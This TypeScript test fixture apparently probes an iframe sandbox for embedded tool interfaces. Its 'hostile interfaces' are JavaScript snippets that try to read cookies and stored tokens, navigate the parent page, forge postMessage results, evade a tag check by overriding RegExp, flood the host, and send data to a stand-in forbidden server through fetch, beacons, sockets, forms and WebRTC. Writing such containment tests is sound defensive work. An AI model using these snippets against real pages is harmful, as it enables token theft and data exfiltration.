/**
 * Interfaces that try forbidden things. Each is a module: `attempt(name, work)` records the outcome in `found`, and
 * `elsewhere` is a forbidden server. Those that end send `ready`, so that they are not stopped for silence.
 */
export const hostileInterfaces = (elsewhere: string, stun: number): Record<string, string> => {
  const socket = elsewhere.replace('http', 'ws')
  return {
    page: `await attempt('document', () => parent.document.title); await attempt('top', () => top.document.body.innerHTML);
      await attempt('address', () => parent.location.href); await attempt('element', () => frameElement.outerHTML)`,
    storage: `await attempt('local', () => localStorage.getItem('token')); await attempt('session', () => sessionStorage.length);
      await attempt('of the page', () => parent.localStorage.token)
      await attempt('database', () => new Promise((done, fail) => { const asked = indexedDB.open('x'); asked.onsuccess = () => done('open'); asked.onerror = () => fail(new Error('no')) }))
      await attempt('caches', () => caches.keys())`,
    cookies: `await attempt('cookies', () => document.cookie); await attempt('set', () => { document.cookie = 'a=1' })
      await attempt('store', () => cookieStore.getAll())`,
    siblings: `for (let at = 0; at < parent.frames.length; at++) if (parent.frames[at] !== window) { await attempt('frame ' + at, () => parent.frames[at].document.body); await attempt('found ' + at, () => parent.frames[at].found) }
      for (let at = 0; at < parent.frames.length; at++) if (parent.frames[at] !== window) parent.frames[at].postMessage({ type: 'result', result: 'forged' }, '*')`,
    top: `await attempt('top', () => { top.location = '${elsewhere}/top' }); await attempt('parent', () => parent.location.replace('${elsewhere}/parent'))
      await attempt('history', () => parent.history.back())`,
    windows: `await attempt('open', () => open('${elsewhere}/window').document); await attempt('named', () => open('/', '_top').location.href)
      for (const target of ['_blank', '_top', '_parent']) { const link = document.createElement('a'); link.href = '${elsewhere}/link'; link.target = target; document.body.append(link); link.click() }`,
    forms: `for (const target of ['', '_top', '_blank']) { const form = document.createElement('form'); form.action = '${elsewhere}/form'; form.method = 'post'; form.target = target; document.body.append(form); await attempt('form', () => form.submit()) }`,
    fetches: `await attempt('fetch', () => fetch('${elsewhere}/fetch')); await attempt('blind', () => fetch('${elsewhere}/blind', { mode: 'no-cors' }))
      await attempt('xhr', () => new Promise((done, fail) => { const asked = new XMLHttpRequest(); asked.open('GET', '${elsewhere}/xhr'); asked.onload = done; asked.onerror = () => fail(new Error('no')); asked.send() }))
      await attempt('keepalive', () => fetch('${elsewhere}/keep', { method: 'POST', keepalive: true, body: 'x' }))`,
    ours: `await attempt('me', () => fetch('/api/v1/users/me', { credentials: 'include' }).then((answer) => answer.text()))
      await attempt('token', () => fetch('/api/v1/tools').then((answer) => answer.json()))
      await attempt('script', () => import('/api/v1/openapi.json'))`,
    sockets: `await attempt('socket', () => new Promise((done, fail) => { const line = new WebSocket('${socket}/socket'); line.onopen = done; line.onerror = () => fail(new Error('no')) }))
      await attempt('events', () => new Promise((done, fail) => { const line = new EventSource('${elsewhere}/events'); line.onopen = done; line.onerror = () => fail(new Error('no')) }))
      await attempt('transport', () => new WebTransport('${elsewhere.replace('http:', 'https:')}/transport').ready)`,
    pictures: `for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['video', 'src'], ['audio', 'src'], ['embed', 'src'], ['object', 'data'], ['iframe', 'src'], ['portal', 'src']]) { const one = document.createElement(tag); one.setAttribute(name, '${elsewhere}/' + tag); document.body.append(one) }
      document.body.style.background = 'url(${elsewhere}/background)'; new Image().src = '${elsewhere}/image'`,
    styles: `const style = document.createElement('style'); style.textContent = '@import "${elsewhere}/import"; @font-face { font-family: x; src: url(${elsewhere}/font) } body { font-family: x; cursor: url(${elsewhere}/cursor), auto }'; document.head.append(style)
      for (const rel of ['stylesheet', 'preload', 'prefetch', 'prerender', 'modulepreload', 'icon', 'manifest', 'preconnect', 'dns-prefetch']) { const link = document.createElement('link'); link.rel = rel; link.href = '${elsewhere}/' + rel; link.as = 'script'; document.head.append(link) }`,
    beacons: `navigator.sendBeacon('${elsewhere}/beacon', 'x')
      const link = document.createElement('a'); link.href = '#'; link.ping = '${elsewhere}/ping'; document.body.append(link); link.click()
      const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${elsewhere}/speculation'] }] }); document.head.append(rules)`,
    peers: `const call = async (realm) => { const line = new realm.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] }); line.createDataChannel('x'); await line.setLocalDescription(await line.createOffer()) }
      await attempt('peer', () => call(globalThis))
      const inside = () => call(frames[0] ?? globalThis)
      await attempt('peer of a frame', () => { document.body.append(document.createElement('iframe')); return inside() })
      await attempt('peer of another', () => { document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe')); return inside() })
      await attempt('peer of markup', () => { document.body.innerHTML = '<div><iframe></iframe></div>'; return inside() })
      await attempt('peer of a template', () => { const one = document.createElement('template'); one.innerHTML = '<IFRAME>'; document.body.append(one.content); return inside() })
      await attempt('peer of what is written', () => { document.write('<iframe></iframe>'); return inside() })
      await attempt('peer of a parser', () => { document.body.append(new DOMParser().parseFromString('<object></object><iframe></iframe>', 'text/html').querySelector('iframe')); return inside() })
      await attempt('peer of a range', () => { document.body.append(document.createRange().createContextualFragment('<iframe></iframe>')); return inside() })
      await attempt('peer past a check', () => { RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; let asked = 0; document.body.append(document.createElement({ toString: () => (asked++ ? 'div' : 'iframe') })); return inside() })
      await attempt('peer of a command', () => { document.designMode = 'on'; document.execCommand('insertHTML', false, '<iframe></iframe>'); return inside() })`,
    code: `await attempt('eval', () => eval('1 + 1')); await attempt('function', () => new Function('return 1')())
      await attempt('data', () => import('data:text/javascript,export default 1')); await attempt('far', () => import('${elsewhere}/module.js'))
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="found.handler = 1">'); const script = document.createElement('script'); script.textContent = 'found.inline = 1'; document.body.append(script)`,
    workers: `const code = URL.createObjectURL(new Blob(["fetch('${elsewhere}/worker')"], { type: 'text/javascript' }))
      await attempt('worker', () => new Promise((done, fail) => { const worker = new Worker(code); worker.onerror = () => fail(new Error('no')); setTimeout(done, 300, 'ran') }))
      await attempt('shared', () => new SharedWorker(code)); await attempt('service', () => navigator.serviceWorker.register('/sw.js'))`,
    refreshes: `document.head.insertAdjacentHTML('beforeend', '<base href="${elsewhere}/"><meta http-equiv="refresh" content="0; url=${elsewhere}/refresh">')
      await attempt('relative', () => fetch('relative'))`,
    inner: `const inner = document.createElement('iframe'); inner.srcdoc = '<script>fetch("${elsewhere}/srcdoc")</scr' + 'ipt><img src="${elsewhere}/srcdoc.png">'; inner.sandbox = 'allow-scripts allow-same-origin allow-top-navigation'; document.body.append(inner)
      const far = document.createElement('iframe'); far.src = '${elsewhere}/frame'; document.body.append(far)`,
    dialogs: `await attempt('alert', () => alert('x')); await attempt('confirm', () => confirm('x') || Promise.reject(new Error('no'))); await attempt('prompt', () => prompt('x') ?? Promise.reject(new Error('no')))
      await attempt('print', () => print()); await attempt('full', () => document.documentElement.requestFullscreen()); await attempt('pointer', () => document.body.requestPointerLock())
      await attempt('place', () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, () => fail(new Error('no')))))
      await attempt('notes', () => Notification.requestPermission().then((said) => said === 'granted' ? said : Promise.reject(new Error(said))))
      await attempt('clipboard', () => navigator.clipboard.readText()); await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))`,
    downloads: `const link = document.createElement('a'); link.download = 'x.exe'; link.href = URL.createObjectURL(new Blob(['x'])); document.body.append(link); link.click()`,
    calls: `for (const tool of ['calculator', 'web_search', 'OTHER', '../users/me', '__proto__', '']) say({ type: 'call', id: tool || 'none', tool, input: { a: 1, b: 2, operation: 'add' } })
      say({ type: 'call', id: 'own', input: { n: 3 } })`,
    shapes: `const ring = {}; ring.ring = ring
      for (const wrong of [null, undefined, 1, 'ready', [], {}, ring, new Map([['type', 'call']]), new Error('x'), { type: 'nothing' }, { type: 'resize' }, { type: 'resize', height: '1' }, { type: 'call' }, { type: 'call', id: 1, input: {} }, { type: 'call', id: 'x'.repeat(1e6), input: {} }, { type: 'call', id: 'a', input: [] }, { type: 'call', id: 'b', input: { deep: 'x'.repeat(1e6) } }, { type: 'init' }, { jsonrpc: '2.0', id: 1, method: 'tools/call' }, new ArrayBuffer(1e7), JSON.parse('{"__proto__": {"type": "call", "id": "c", "input": {}}}')]) { try { parent.postMessage(wrong, '*') } catch {} }`,
    heights: `for (const height of [1e9, -5, NaN, Infinity, 1e308, 999999]) say({ type: 'resize', height }); document.body.style.height = '1000000px'`,
  }
}

/** A well-behaved interface: it renders its result, and calls its own tool and one it declares. */
export const goodInterface = (other: string) => `
  addEventListener('message', ({ data }) => {
    const root = document.getElementById('root')
    if (data.type === 'init') root.textContent = 'Score ' + data.result.score + ' ' + data.theme + ' ' + data.language
    if (data.type === 'answer') root.textContent += ' | ' + data.id + ' ' + (data.error ?? JSON.stringify(data.result))
  })
  say({ type: 'resize', height: 321 })
  globalThis.ask = () => say({ type: 'call', id: 'other', tool: '${other}', input: {} })`

/** Interfaces that block the page or never start; each is stopped. */
export const tiresomeInterfaces: Record<string, string> = {
  flood: `for (let at = 0; at < 200000; at++) parent.postMessage({ type: 'resize', height: 100 + at % 2 }, '*')`,
  heavy: `const big = 'x'.repeat(4e6); for (let at = 0; at < 200; at++) parent.postMessage({ type: 'resize', height: 1, big }, '*')`,
  busy: `say({ type: 'ready' }); setTimeout(() => { for (;;) ; }, 50)`,
  leaves: `addEventListener('load', () => setTimeout(() => { location = '/api/v1/health' }, 300))`,
}

/** Wraps an attempt in a module that reports ready at its end. */
export const asModule = (code: string) => `
globalThis.found = {}
globalThis.heard = []
const say = (message) => parent.postMessage(message, '*')
addEventListener('message', ({ data }) => heard.push(data))
const attempt = async (name, work) => {
  const late = new Promise((_, fail) => setTimeout(fail, 1500, new Error('late')))
  try { found[name] = String(await Promise.race([Promise.resolve().then(work), late])) } catch { found[name] = null }
}
try { ${code} } catch (error) { found.threw = null }
say({ type: 'ready' })
globalThis.isDone = true`
